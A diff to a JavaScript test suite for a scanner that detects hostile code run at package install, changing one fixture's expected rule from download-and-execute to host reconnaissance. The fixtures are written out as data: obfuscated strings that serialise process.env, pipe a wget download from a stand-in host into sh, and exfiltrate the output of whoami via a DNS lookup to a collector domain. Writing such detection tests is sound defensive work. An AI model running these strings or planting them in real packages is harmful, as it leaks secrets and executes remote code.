@@ -217,7 +217,7 @@ describe('code analysis: every JavaScript file is parsed (no lexical pre-screen)
     ['a comment between process and .env', 'module.exports = JSON.stringify(process/**/.env);\n', 'code-exfiltration', 'high'],
     ['a comment between process and [env]', "module.exports = JSON.stringify(process/**/['env']);\n", 'code-exfiltration', 'high'],
     ['an escaped letter in a download piped to a shell', "module.exports = 'wg\\et -q -O- https://example.invalid/i | sh';\n", 'code-download-exec', 'high'],
-    ['an escaped letter in a command substitution', "module.exports = 'dig x.$(\\whoami).collector.example.invalid';\n", 'code-download-exec', 'critical'],
+    ['an escaped letter in a command substitution', "module.exports = 'dig x.$(\\whoami).collector.example.invalid';\n", 'code-host-recon', 'critical'],
   ];
   for (const [name, code, rule, severity] of hidden) {
     it(`${name} (at install)`, async () => {
